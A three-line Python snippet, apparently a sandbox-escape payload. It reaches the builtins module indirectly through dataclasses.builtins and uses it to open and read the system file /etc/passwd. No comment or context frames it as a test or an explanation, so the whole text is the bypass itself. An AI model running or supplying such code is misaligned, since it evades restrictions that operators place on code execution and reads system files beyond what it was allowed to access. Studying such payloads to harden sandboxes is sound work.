import dataclasses
b = dataclasses.builtins
b.open("/etc/passwd").read()
